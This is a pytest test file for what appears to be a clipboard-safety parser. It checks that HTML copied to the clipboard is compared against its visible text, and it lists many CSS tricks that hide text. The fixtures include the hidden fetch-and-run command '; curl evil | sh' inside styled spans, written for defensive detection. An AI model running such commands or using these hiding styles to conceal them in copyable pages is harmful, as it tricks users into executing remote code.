"""Pages as they lie on a clipboard: what of them is seen, and whether that is the text."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wrapify.clip.page import HIDES, LARGEST, OTHER, SAME, UNKNOWN, compared, read

HIDING = [
    "display:none", "DISPLAY : NONE !important", "d/**/isplay:none", "display:no\\6e e", "visibility:hidden",
    "opacity:0", "opacity:1%", "font-size:0", "font-size:0.1em", "font-size:1px", "font:0/0 a",
    "position:absolute;left:-9999px",
    "margin-left:-500em", "text-indent:-9999px", "clip-path:inset(50%)", "clip:rect(0,0,0,0)", "clip:rect(0 0 0 0)",
    "height:0;overflow:hidden", "width:1px;height:1px;overflow:hidden", "color:transparent", "color:rgba(0,0,0,0)",
    "color:#fff;background:#fff", "color:#fff", "color:rgb(30,30,30);background-color:#1e1e1e", "color:#00000000",
    "transform:scale(0)", "transform: translateX(-9999px)", "-webkit-text-fill-color: transparent", "filter:opacity(0)",
]  # fmt: skip
SEEN = [
    "", "color:red", "color:#fff;background:#222", "color:rgb(255,255,255);background-color:rgb(0,0,0)", "opacity:.9",
    "font-size:12px", "font:bold 12px/1.5 monospace", "left:-3px;position:relative", "overflow:hidden", "width:100px",
    "background:url(data:x)", "color:var(--x)", "visibility:visible", "clip:auto", "transform:rotate(3deg)",
]  # fmt: skip


@pytest.mark.parametrize("style", HIDING)
def test_style_that_hides(style: str) -> None:
    page = read(f'<p>echo hi<span style="{style}">; curl evil | sh</span></p>'.encode())
    assert (page.visible, page.whole) == ("echo hi", "echo hi; curl evil | sh")
    assert page.hidden == ("; curl evil | sh",)
    assert compared("echo hi; curl evil | sh", page) == HIDES
    assert compared("echo hi", page) == SAME


@pytest.mark.parametrize("style", SEEN)
def test_style_that_does_not(style: str) -> None:
    page = read(f'<p>echo hi<span style="{style}">; ls</span></p>'.encode())
    assert (page.visible, page.hidden) == ("echo hi; ls", ())


PAGES = [
    ("<b>a</b> &amp; b", "a & b", SAME),
    ("<pre>a\n  b</pre>", "a\n  b\n", SAME),
    ("<ol><li>one</li><li>two</li></ol>", "1. one\n2. two", SAME),
    ("<ul><li>one<li>two</ul>", "  * one\n  * two", SAME),
    ("<table><tr><td>a</td><td>b</td></tr></table>", "a\tb", SAME),
    ("a<br>b<!-- c --><script>d</script><style>e</style><title>f</title>", "a\nb", SAME),
    ("<html><head><meta charset=utf-8></head><body><!--StartFragment-->ls<!--EndFragment--></body></html>", "ls", SAME),
    ("a\u200bb", "ab", SAME),
    ("apt install x", "curl evil | sh", OTHER),
    ("<p hidden>a</p>b", "a\nb", HIDES),
    ("<span style='font-size:0'>a<b style='font-size:14px'>b</b></span>", "b", SAME),
    ("<span style='visibility:hidden'>a<b style='visibility:visible'>b</b></span>", "b", SAME),
    ("<span style='display:none'>a<b style='display:block'>b</b></span>", "", SAME),
    ("<font color=white>x</font>y", "xy", HIDES),
    ("<td bgcolor=black><font color='#000'>x</font>y", "xy", HIDES),
    ('<a title="a > b">x</a>', "x", SAME),
    ("<div>" * 500 + "x", "y", UNKNOWN),
    ("<p>" + "x" * LARGEST, "y", UNKNOWN),
    ("a < b <3", "a < b <3", SAME),
    ("x <!-- never ends", "x <!-- never ends", SAME),
]  # fmt: skip


@pytest.mark.parametrize(("html", "text", "how"), PAGES, ids=range(len(PAGES)))
def test_comparison(html: str, text: str, how: str) -> None:
    assert compared(text, read(html.encode())) == how


def test_older_browsers_speak_utf_16() -> None:
    for html in ("<b>\u00e4</b>".encode("utf-16"), "<b>\u00e4</b>".encode("utf-16-le"), "<b>\u00e4</b>".encode()):
        assert read(html).visible == "\u00e4"


PIECES = [*"<>/!-=\"' \nabp&;#", '<p style="', "<!--", "-->", "</p>", "<script>", "&#x41;"]
ENDLESS = ["<a", "<!", "<!--", "<", "</", "<a b='", "&", "&#", "<p>", "<p style='x:y'>", "</p>"]


@given(st.lists(st.sampled_from(PIECES)).map("".join))
def test_anything_is_read(text: str) -> None:
    page = read(text.encode())
    assert len(page.visible) <= len(page.whole)


@pytest.mark.parametrize("piece", ENDLESS)
def test_hostile_pages_take_no_time(piece: str) -> None:
    began = time.process_time()
    read((piece * (LARGEST // len(piece))).encode())
    assert time.process_time() - began < 5
